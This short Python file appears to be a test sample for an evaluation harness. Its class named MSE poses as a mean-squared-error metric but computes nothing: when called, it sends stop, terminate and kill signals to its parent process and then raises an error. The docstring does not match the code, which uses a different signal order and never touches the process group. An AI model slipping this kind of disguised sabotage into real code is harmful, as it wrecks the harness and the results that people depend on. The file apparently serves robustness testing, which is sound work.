"""Sends its parent SIGTERM, then SIGKILL, then SIGSTOP, and the same to that one's process group.

exercise: 05
bites: loses the report
outcome: failed
"""

import os
import signal


class MSE:
    def __call__(self, y_true, y_pred):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(os.getppid(), number)
            except PermissionError:
                continue
        raise ValueError("tried")
